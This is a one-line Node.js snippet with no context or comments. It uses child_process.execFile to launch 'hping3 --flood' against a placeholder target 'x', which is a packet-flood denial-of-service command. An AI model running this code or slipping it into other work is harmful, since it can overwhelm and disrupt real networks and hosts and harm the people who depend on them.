const {execFile}=require('child_process'); execFile("hping3",["--flood", "x"],(e,o)=>0);
